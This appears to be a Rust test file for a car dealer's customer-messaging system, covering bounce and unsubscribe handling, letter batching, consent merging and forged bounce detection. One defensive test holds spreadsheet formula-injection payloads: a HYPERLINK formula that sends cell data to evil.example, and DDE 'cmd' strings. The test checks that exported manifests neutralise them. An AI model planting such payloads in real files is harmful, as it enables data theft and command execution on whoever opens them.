pub(crate) fn hard_bounce(verp: &str, failed: &str, message_id: &str) -> Vec<u8> {
    [
        "Return-Path: <>".to_string(),
        format!("Delivered-To: {verp}"),
        "Date: Mon, 23 Nov 2026 10:14:02 +0100 (CET)".into(),
        "From: MAILER-DAEMON@mx1.example.de (Mail Delivery System)".into(),
        "Subject: Undelivered Mail Returned to Sender".into(),
        format!("To: {verp}"),
        "Auto-Submitted: auto-replied".into(),
        "MIME-Version: 1.0".into(),
        "Content-Type: multipart/report; report-type=delivery-status; boundary=\"B0UND\"".into(),
        "Message-Id: <20261123091402.4XkQ2G6@mx1.example.de>".into(),
        String::new(),
        "--B0UND".into(),
        "Content-Description: Notification".into(),
        "Content-Type: text/plain; charset=us-ascii".into(),
        String::new(),
        "This is the mail system at host mx1.example.de.".into(),
        String::new(),
        format!("<{failed}>: host mail.example.de[192.0.2.31] said: 550 5.1.1"),
        format!("    <{failed}>: Recipient address rejected: User unknown"),
        String::new(),
        "--B0UND".into(),
        "Content-Description: Delivery report".into(),
        "Content-Type: message/delivery-status".into(),
        String::new(),
        "Reporting-MTA: dns; mx1.example.de".into(),
        String::new(),
        format!("Final-Recipient: rfc822; {failed}"),
        "Action: failed".into(),
        "Status: 5.1.1".into(),
        format!(
            "Diagnostic-Code: smtp; 550 5.1.1 <{failed}>: Recipient address rejected: User unknown"
        ),
        String::new(),
        "--B0UND".into(),
        "Content-Description: Undelivered Message Headers".into(),
        "Content-Type: text/rfc822-headers".into(),
        String::new(),
        format!("Return-Path: <{verp}>"),
        format!("Message-ID: <{message_id}>"),
        format!("To: {failed}"),
        String::new(),
        "--B0UND--".into(),
        String::new(),
    ]
    .join("\r\n")
    .into_bytes()
}

/// An out-of-office reply to our return path `verp`, as Outlook sends it.
fn out_of_office(verp: &str, from: &str, message_id: &str) -> Vec<u8> {
    [
        format!("Delivered-To: {verp}"),
        format!("From: {from}"),
        format!("To: {verp}"),
        "Subject: Automatische Antwort: Ihre HU ist bald fällig".into(),
        "Date: Mon, 23 Nov 2026 10:09:59 +0000".into(),
        "Message-ID: <ooo-4711@mailbox.example>".into(),
        format!("In-Reply-To: <{message_id}>"),
        "Auto-Submitted: auto-replied".into(),
        "X-Auto-Response-Suppress: All".into(),
        "MIME-Version: 1.0".into(),
        "Content-Type: text/plain; charset=utf-8".into(),
        "Content-Transfer-Encoding: 8bit".into(),
        String::new(),
        "Ich bin bis einschließlich 4.12. nicht im Büro.".into(),
        String::new(),
    ]
    .join("\r\n")
    .into_bytes()
}

/// A customer's own mail to the unsubscribe address of a message.
fn unsubscribe_mail(address: &str, from: &str) -> Vec<u8> {
    [
        format!("Delivered-To: {address}"),
        format!("From: {from}"),
        format!("To: <{address}>"),
        "Subject: Abmelden".into(),
        "Date: Mon, 23 Nov 2026 14:59:58 +0100".into(),
        "Message-ID: <f00dfeed-203@example.de>".into(),
        "MIME-Version: 1.0".into(),
        "Content-Type: text/plain; charset=UTF-8".into(),
        "Content-Transfer-Encoding: 8bit".into(),
        String::new(),
        "Bitte keine E-Mails mehr. Danke.".into(),
        String::new(),
    ]
    .join("\r\n")
    .into_bytes()
}

/// The `mailto:` address of a received message's `List-Unsubscribe`.
fn unsubscribe_address(r: &Received) -> String {
    let text = r.text();
    let header = text
        .split("\r\n\r\n")
        .next()
        .and_then(|h| h.find("List-Unsubscribe:").map(|i| &h[i..]))
        .expect("a List-Unsubscribe header");
    let start = header.find("<mailto:").expect("a mailto: link") + "<mailto:".len();
    let end = header[start..].find('>').expect("a closing >") + start;
    header[start..end].to_string()
}

pub(crate) fn only<'a>(got: &'a [Received], address: &str) -> &'a Received {
    let mails = to(got, address);
    assert_eq!(mails.len(), 1, "mails to {address}: {:?}", mails.len());
    mails[0]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bounces_and_unsubscribes_from_the_maildir_stop_email_to_the_address() {
    let rig = Rig::start(&["s001"]);
    rig.import("s001", &dispatch_fixture("kunden-bounces.csv"))
        .await;
    let first = rig.plan("s001", day(2026, 11, 2)).await;
    assert_eq!(
        first
            .values()
            .map(|m| (m.recipient.as_str(), m.service.as_str(), m.channel))
            .collect::<Vec<_>>(),
        [
            ("K-201", "birthday", Channel::Email),
            ("K-202", "hu_reminder", Channel::Email),
            ("K-203", "birthday", Channel::Email),
            ("K-204", "birthday", Channel::Email),
        ]
    );
    let got = rig.wait_sink("all four", |g| g.len() >= 4).await;
    let (max, eva, paul, sofia) = (
        "max.sommer@example.de",
        "eva.winter@posteingang.example",
        "paul.herbst@example.de",
        "sofia.nebel@mailbox.example",
    );
    let mid = |r: &Received| {
        r.parsed()
            .and_then(|p| p.message_id().map(str::to_string))
            .expect("Message-ID")
    };
    for who in ["K-201", "K-202", "K-203", "K-204"] {
        rig.wait_message("s001", first[who].id, "sent", |m| {
            m.status == MessageStatus::Sent
        })
        .await;
    }
    let before = mails_read(&rig.status().await);

    // Hard bounces to the return paths the relay saw; K-202's arrives twice.
    let to_max = only(&got, max);
    rig.maildir
        .deliver(&hard_bounce(&to_max.from, max, &mid(to_max)))
        .expect("deliver");
    let to_eva = only(&got, eva);
    for _ in 0..2 {
        rig.maildir
            .deliver(&hard_bounce(&to_eva.from, eva, &mid(to_eva)))
            .expect("deliver");
    }
    // K-203 asks to stop; K-204 is on holiday.
    let to_paul = only(&got, paul);
    rig.maildir
        .deliver(&unsubscribe_mail(&unsubscribe_address(to_paul), paul))
        .expect("deliver");
    let to_sofia = only(&got, sofia);
    let sofia_before = rig.message("s001", first["K-204"].id).await;
    rig.maildir
        .deliver(&out_of_office(&to_sofia.from, sofia, &mid(to_sofia)))
        .expect("deliver");
    let s = rig
        .wait_status("the five mails read", |s| mails_read(s) >= before + 5)
        .await;
    // Three bounce reports (one twice), an unsubscribe, an absence notice.
    assert_eq!(
        (
            s.bounces_processed,
            s.unsubscribes_processed,
            s.autoreplies_processed,
            s.mails_ignored
        ),
        (3, 1, 1, 0)
    );

    // A birthday greeting goes by email only: failed.
    let m = rig.message("s001", first["K-201"].id).await;
    assert_eq!(m.status, MessageStatus::Failed, "{:#?}", m.history);
    assert!(said(&m, "email failed: hard bounce 5.1.1"), "{:#?}", m.why);
    assert!(
        said(
            &m,
            "no letter instead: service birthday is not sent by post"
        ),
        "{:#?}",
        m.why
    );
    // An HU reminder becomes a letter, once however often the report comes.
    let m = rig.message("s001", first["K-202"].id).await;
    assert_eq!(m.status, MessageStatus::Fallback, "{:#?}", m.history);
    let letter = rig
        .message("s001", m.dispatch.fallback_to.expect("fallback_to"))
        .await;
    assert_eq!(
        (letter.channel, letter.dispatch.fallback_of),
        (Channel::Post, Some(m.id))
    );
    assert!(said(&letter, "hard bounce 5.1.1"), "{:#?}", letter.why);
    let letters = rig.status().await.queues[0].post;
    assert_eq!(letters, 1, "one letter for two copies of one report");
    // The unsubscribe is on the message's record.
    let m = rig.message("s001", first["K-203"].id).await;
    assert_eq!(m.status, MessageStatus::Sent);
    assert!(
        m.history
            .iter()
            .any(|h| h.2 == "recipient unsubscribed from email"),
        "{:#?}",
        m.history
    );
    // The absence notice changed nothing.
    assert_eq!(rig.message("s001", first["K-204"].id).await, sofia_before);

    // Planned again later: each has an HU reminder due.
    let second = rig.plan("s001", day(2026, 11, 20)).await;
    assert_eq!(
        second.keys().map(String::as_str).collect::<Vec<_>>(),
        ["K-201", "K-203", "K-204"]
    );
    // The unsubscribed customer gets a letter; the plan says why.
    let m = &second["K-203"];
    assert_eq!(m.channel, Channel::Post, "{:#?}", m.why);
    assert!(said(m, "not email: consent withdrawn"), "{:#?}", m.why);
    assert!(said(m, "(unsubscribe mail ("), "{:#?}", m.why);
    // The customer on holiday gets email as before.
    assert_eq!(
        second["K-204"].channel,
        Channel::Email,
        "{:#?}",
        second["K-204"].why
    );
    rig.wait_sink("the second mail to K-204", |g| to(g, sofia).len() == 2)
        .await;
    // The dead address is not mailed again: K-201's reminder ends as a letter.
    let id = second["K-201"].id;
    let m = rig
        .wait_message("s001", id, "settled", |m| {
            matches!(
                (m.channel, m.status),
                (Channel::Post, MessageStatus::Queued) | (Channel::Email, MessageStatus::Fallback)
            )
        })
        .await;
    if m.channel == Channel::Email {
        assert!(
            said(&m, &format!("address {max} is known to bounce")),
            "{:#?}",
            m.why
        );
        let letter = rig
            .message("s001", m.dispatch.fallback_to.expect("fallback_to"))
            .await;
        assert_eq!(letter.channel, Channel::Post);
    }
    rig.full_round().await;
    let got = rig.sink.messages();
    for (address, n) in [(max, 1), (eva, 1), (paul, 1), (sofia, 2)] {
        assert_eq!(to(&got, address).len(), n, "mails to {address}");
    }
}

// ----- letter batches ----------------------------------------------------------------

/// A customer export with one customer per address (`None`: letters only,
/// no email), each with one vehicle whose HU is due on 2026-12-10.
fn customers(path: &Path, emails: &[Option<String>]) {
    let mut csv = String::from(
        "Kundennummer;Anrede;Vorname;Nachname;Firma;Straße;PLZ;Ort;E-Mail;Telefon;Geburtsdatum;FIN;Marke;Modell;Erstzulassung;Letzter Service;km-Stand;Nächste HU;Garantieende;Einwilligung E-Mail;Einwilligung Post;Einwilligungsdatum\r\n",
    );
    for (i, email) in emails.iter().enumerate() {
        let consent = if email.is_some() { "ja" } else { "nein" };
        csv.push_str(&format!(
            "K-{no};Frau;Brigitte;Kundin{i:04};;Postweg {house};{plz};München;{email};;;WNWZZZ3CZNB{vin:06};Nordwagen;Fjord;15.03.2022;20.01.2026;12.000;10.12.2026;;{consent};ja;01.02.2024\r\n",
            no = 3000 + i,
            email = email.as_deref().unwrap_or_default(),
            house = i + 1,
            plz = 80331 + i % 600,
            vin = 300_000 + i,
        ));
    }
    std::fs::write(path, csv).expect("write export");
}

/// The day's letter batches are numbered 01 to 99 (`next_seq` in
/// engine.rs) and an operator may close batches as often as they like
/// (`touchpoint batches`, say every few minutes so that fallback letters
/// do not wait for tomorrow). Every letter must still land in a complete
/// batch after the 99th.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_letter_lands_in_a_complete_batch_even_past_the_days_99th() {
    const LETTERS: usize = 101;
    let rig = Rig::start(&["s001"]);
    let export = rig.d.dir.path().join("kunden-post.csv");
    customers(&export, &vec![None; LETTERS]);
    rig.import("s001", &export).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    assert_eq!(planned.len(), LETTERS);
    assert!(planned.values().all(|m| m.channel == Channel::Post));
    let mut ids: Vec<u64> = planned.values().map(|m| m.id).collect();
    ids.sort_unstable();
    let held = rig.act("s001", &ids, MessageAction::Hold).await;
    assert!(
        held.iter().all(|r| r.outcome == Ok(MessageStatus::Held)),
        "{held:?}"
    );

    // One letter per batch.
    let mut refused = Vec::new();
    for (n, &id) in ids.iter().enumerate() {
        let r = rig.act("s001", &[id], MessageAction::Release).await;
        assert!(r[0].outcome.is_ok(), "{r:?}");
        match rig.client().await.run_batches(Some(&tid("s001"))).await {
            Ok(b) if b.len() == 1 && b[0].messages == 1 => {}
            other => refused.push(format!("batch {}: {other:?}", n + 1)),
        }
    }

    // Every letter is sent, in a batch whose manifest lists it.
    let dir = rig.d.state_dir.join("letters").join("s001");
    let mut lost = Vec::new();
    for &id in &ids {
        let m = rig.message("s001", id).await;
        let manifest = dir.join(&m.dispatch.batch).with_extension("csv");
        let listed = m.status == MessageStatus::Sent
            && manifest.is_file()
            && manifest_rows(&manifest)
                .iter()
                .any(|r| r["message"] == id.to_string());
        if !listed {
            lost.push(format!("#{id} {} in {:?}", m.status, m.dispatch.batch));
        }
    }
    let (pdfs, csvs, _) = letter_files(&dir);
    assert!(
        refused.is_empty() && lost.is_empty(),
        "{} batches refused: {refused:#?}\nletters in no batch: {lost:#?}",
        refused.len()
    );
    assert_eq!((pdfs.len(), &pdfs), (LETTERS, &csvs));
}

// ----- files people open in a spreadsheet ------------------------------------------------

/// The cells of a CSV line as a spreadsheet splits them with `delimiter`:
/// quoted fields whole (`""` a quote), the rest cut at every `delimiter`.
fn cells_as_split_by(line: &str, delimiter: char) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        let cell = cells.last_mut().expect("a cell");
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            c if c == delimiter && !quoted => cells.push(String::new()),
            c => cell.push(c),
        }
    }
    cells
}

/// Whether a spreadsheet would take a cell as a formula: it begins, after
/// blanks, with `=`, `+`, `-` or `@` and is not simply a number.
fn is_formula(cell: &str) -> bool {
    let t = cell.trim_start();
    let plain_number = t
        .strip_prefix(['+', '-'])
        .unwrap_or(t)
        .chars()
        .all(|c| c.is_ascii_digit() || c == '.' || c == ',');
    t.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
}

/// Customer names that are spreadsheet formulas reach the lettershop's
/// manifest as text: kept, but led by `'`, quoted where they hold a
/// separator, so that neither a comma nor a semicolon spreadsheet runs any
/// of them, whichever separator it splits the lines at.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_in_customer_names_reach_the_letter_manifest_as_text() {
    let rig = Rig::start(&["s001"]);
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1;\"Rechnung\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+49 89 1234567",
        "Kundin;=1+2",
        "Kundin,@A1",
    ];
    let mut csv = String::from(
        "Kundennummer;Anrede;Vorname;Nachname;Firma;Straße;PLZ;Ort;E-Mail;Telefon;Geburtsdatum;FIN;Marke;Modell;Erstzulassung;Letzter Service;km-Stand;Nächste HU;Garantieende;Einwilligung E-Mail;Einwilligung Post;Einwilligungsdatum\r\n",
    );
    for (i, name) in names.iter().enumerate() {
        csv.push_str(&format!(
            "K-{no};Frau;;\"{name}\";;Postweg {house};{plz};München;;;;WNWZZZ3CZNB{vin:06};Nordwagen;Fjord;15.03.2022;20.01.2026;12.000;10.12.2026;;nein;ja;01.02.2024\r\n",
            no = 4000 + i,
            name = name.replace('"', "\"\""),
            house = i + 1,
            plz = 80331 + i,
            vin = 400_000 + i,
        ));
    }
    let export = rig.d.dir.path().join("kunden-formeln.csv");
    std::fs::write(&export, csv).expect("write export");
    rig.import("s001", &export).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    assert_eq!(planned.len(), names.len(), "{:#?}", planned.keys());
    assert!(planned.values().all(|m| m.channel == Channel::Post));
    let batches = rig
        .client()
        .await
        .run_batches(Some(&tid("s001")))
        .await
        .expect("run batches");
    assert_eq!(batches.len(), 1, "{batches:?}");
    let m = rig.message("s001", planned["K-4000"].id).await;
    let manifest = rig
        .d
        .state_dir
        .join("letters/s001")
        .join(&m.dispatch.batch)
        .with_extension("csv");
    let text = std::fs::read_to_string(&manifest).expect("manifest");

    for delimiter in [',', ';'] {
        for line in text.lines() {
            let formulas: Vec<String> = cells_as_split_by(line, delimiter)
                .into_iter()
                .filter(|c| is_formula(c))
                .collect();
            assert!(
                formulas.is_empty(),
                "split at {delimiter:?}, {line:?} has formulas {formulas:?}"
            );
        }
    }
    let mut in_manifest: Vec<String> = text
        .lines()
        .skip(1)
        .map(|l| cells_as_split_by(l, ',')[3].clone())
        .collect();
    in_manifest.sort();
    let mut expected: Vec<String> = names
        .iter()
        .map(|n| {
            if n.starts_with(['=', '+', '-', '@']) {
                format!("'{n}")
            } else {
                n.to_string()
            }
        })
        .collect();
    expected.sort();
    assert_eq!(in_manifest, expected, "{text}");
}

// ----- call outcomes -----------------------------------------------------------------------

/// An outcome file that names a letter (a task id mistyped, or the
/// manifest sent back for the call list): `touchpoint calls import` refuses
/// that row with its line and why, fails, and the letter stays as it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_call_outcome_for_a_letter_is_refused_with_its_line() {
    let rig = Rig::start(&["s001"]);
    let export = rig.d.dir.path().join("kunden-post.csv");
    customers(&export, &[None]);
    rig.import("s001", &export).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    let letter = planned.values().next().expect("a letter").id;
    let batches = rig
        .client()
        .await
        .run_batches(Some(&tid("s001")))
        .await
        .expect("run batches");
    assert_eq!(batches.len(), 1, "{batches:?}");
    let before = rig.message("s001", letter).await;
    assert_eq!(
        (before.channel, before.status),
        (Channel::Post, MessageStatus::Sent)
    );

    let file = rig.d.dir.path().join("ergebnisse.csv");
    std::fs::write(
        &file,
        format!("task_id;outcome;minutes;note\ns001.{letter};abgelehnt;2;\n"),
    )
    .expect("write outcomes");
    let out = touchpoint_tests::touchpoint(
        &rig.d.socket,
        &["calls", "import", &file.display().to_string()],
    );
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!out.status.success(), "{said}");
    assert!(
        said.contains(&format!(
            "ergebnisse.csv:2: task_id: s001.{letter}: a letter (post), not a call task; \
             outcome not applied"
        )),
        "{said}"
    );
    assert_eq!(rig.message("s001", letter).await, before);
}

// ----- consent of merged customers ------------------------------------------------------

/// A dealer export row: a person at an address with an email and a car
/// whose HU is due on 2026-12-10, with email consent `email` stated on
/// `dated` (dd.mm.yyyy).
fn person_row(
    no: &str,
    last: &str,
    street: &str,
    email: &str,
    consent: &str,
    dated: &str,
    vin: u32,
) -> String {
    format!(
        "{no};Frau;Anna;{last};;{street};80331;München;{email};;;WNWZZZ3CZNB{vin:06};Nordwagen;Fjord;\
         15.03.2022;20.01.2026;12.000;10.12.2026;;{consent};ja;{dated}\r\n"
    )
}

const EXPORT_HEADER: &str = "Kundennummer;Anrede;Vorname;Nachname;Firma;Straße;PLZ;Ort;E-Mail;Telefon;Geburtsdatum;FIN;Marke;Modell;Erstzulassung;Letzter Service;km-Stand;Nächste HU;Garantieende;Einwilligung E-Mail;Einwilligung Post;Einwilligungsdatum\r\n";

/// Two customer numbers of one person (merged by identity) with
/// conflicting email consents: the planner and dispatch read them alike.
/// K-5000 said no in 2024 and, as K-5001, yes in 2025: the email is
/// planned and goes. K-6000 and K-6001 both said yes; after planning,
/// K-6001 says no: the email does not go, and the queue's last error says
/// why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn merged_customers_consent_is_read_alike_when_planned_and_when_sent() {
    let rig = Rig::start(&["s001"]);
    rig.client()
        .await
        .pause(Default::default())
        .await
        .expect("pause");
    let (anna, berta) = ("anna.berg@example.de", "berta.stein@example.de");
    let export = rig.d.dir.path().join("kunden-doppelt.csv");
    std::fs::write(
        &export,
        [
            EXPORT_HEADER.to_string(),
            person_row(
                "K-5000",
                "Berg",
                "Postweg 1",
                anna,
                "nein",
                "01.02.2024",
                500,
            ),
            person_row("K-5001", "Berg", "Postweg 1", anna, "ja", "01.06.2025", 501),
            person_row(
                "K-6000",
                "Stein",
                "Hafenstraße 9",
                berta,
                "ja",
                "01.02.2024",
                600,
            ),
            person_row(
                "K-6001",
                "Stein",
                "Hafenstraße 9",
                berta,
                "ja",
                "01.02.2024",
                601,
            ),
        ]
        .concat(),
    )
    .expect("write export");
    rig.import("s001", &export).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    assert_eq!(
        planned
            .values()
            .map(|m| (m.recipient.as_str(), m.channel))
            .collect::<Vec<_>>(),
        [("K-5000", Channel::Email), ("K-6000", Channel::Email)],
        "{planned:#?}"
    );
    assert!(
        said(
            &planned["K-5000"],
            "email: consent given 2025-06-01 (import:kunden-doppelt.csv; customer K-5001)"
        ),
        "{:#?}",
        planned["K-5000"].why
    );

    // K-6001 withdraws after planning, in the dealer's next export.
    let later = rig.d.dir.path().join("kunden-widerruf.csv");
    std::fs::write(
        &later,
        [
            EXPORT_HEADER.to_string(),
            person_row(
                "K-6001",
                "Stein",
                "Hafenstraße 9",
                berta,
                "nein",
                "01.11.2026",
                601,
            ),
        ]
        .concat(),
    )
    .expect("write export");
    rig.import("s001", &later).await;
    rig.client()
        .await
        .resume(Default::default())
        .await
        .expect("resume");

    let sent = rig
        .wait_message("s001", planned["K-5000"].id, "settled", |m| {
            matches!(m.status, MessageStatus::Sent | MessageStatus::Cancelled)
        })
        .await;
    assert_eq!(sent.status, MessageStatus::Sent, "{:#?}", sent.history);
    let got = rig
        .wait_sink("the email to K-5000", |g| !to(g, anna).is_empty())
        .await;
    assert_eq!(to(&got, anna).len(), 1);

    let id = planned["K-6000"].id;
    let stopped = rig
        .wait_message("s001", id, "cancelled", |m| {
            m.status == MessageStatus::Cancelled
        })
        .await;
    let out = touchpoint_tests::touchpoint(&rig.d.socket, &["queue", "--json", "status:cancelled"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let page: serde_json::Value = serde_json::from_slice(&out.stdout).expect("queue json");
    let row = page["rows"]
        .as_array()
        .and_then(|rows| rows.iter().find(|r| r["id"] == id))
        .unwrap_or_else(|| panic!("message {id} not in {page:#}"));
    let last_error = row["last_error"].as_str().unwrap_or_default();
    assert!(
        last_error.starts_with("email: consent withdrawn 2026-11-01 (")
            && last_error.ends_with("; customer K-6001)"),
        "queue last error {last_error:?}; history {:#?}",
        stopped.history
    );
    rig.full_round().await;
    assert!(
        to(&rig.sink.messages(), berta).is_empty(),
        "the withdrawn email went out"
    );
}

// ----- what the bounce maildir held ----------------------------------------------------

/// `touchpoint dispatch` counts the mails of the bounce maildir by what
/// they were: a bounce, an unsubscribe, an automatic reply, or a mail that
/// matched none of our messages or could not be trusted (ignored). Only
/// the bounce counts as a bounce.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bounce_maildir_is_counted_by_kind_of_mail() {
    let rig = Rig::start(&["s001"]);
    rig.import("s001", &dispatch_fixture("kunden-bounces.csv"))
        .await;
    let planned = rig.plan("s001", day(2026, 11, 2)).await;
    let got = rig.wait_sink("all four", |g| g.len() >= 4).await;
    for m in planned.values() {
        rig.wait_message("s001", m.id, "sent", |m| m.status == MessageStatus::Sent)
            .await;
    }
    let (max, paul, sofia) = (
        "max.sommer@example.de",
        "paul.herbst@example.de",
        "sofia.nebel@mailbox.example",
    );
    let mid = |r: &Received| {
        r.parsed()
            .and_then(|p| p.message_id().map(str::to_string))
            .expect("Message-ID")
    };
    let to_max = only(&got, max);
    // A return path with its signature changed: forged.
    let forged = {
        let (local, domain) = to_max.from.split_once('@').expect("an address");
        let last = local.chars().last().expect("a tag");
        let other = if last == 'a' { 'b' } else { 'a' };
        format!("{}{other}@{domain}", &local[..local.len() - 1])
    };
    let mails = [
        hard_bounce(&to_max.from, max, &mid(to_max)),
        unsubscribe_mail(&unsubscribe_address(only(&got, paul)), paul),
        out_of_office(&only(&got, sofia).from, sofia, &mid(only(&got, sofia))),
        hard_bounce(&forged, max, "tp.s001.999@autohaus-versand.example"),
        b"From: someone@example.org\r\nTo: postmaster@bounce.touchpoint.invalid\r\n\
          Subject: hello\r\nMessage-ID: <hello@example.org>\r\n\r\nabout nothing\r\n"
            .to_vec(),
    ];
    for mail in &mails {
        rig.maildir.deliver(mail).expect("deliver");
    }
    let deadline = Instant::now() + WAIT;
    while !rig.maildir.pending().expect("maildir").is_empty() {
        assert!(Instant::now() < deadline, "the maildir was not read");
        tokio::time::sleep(POLL).await;
    }

    let out = touchpoint_tests::touchpoint(&rig.d.socket, &["dispatch"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(
        text.lines()
            .any(|l| l == "bounce mail  bounces 1  unsubscribes 1  auto-replies 1  ignored 2"),
        "{text}"
    );
    assert!(!text.contains("  bounces 5"), "{text}");
}
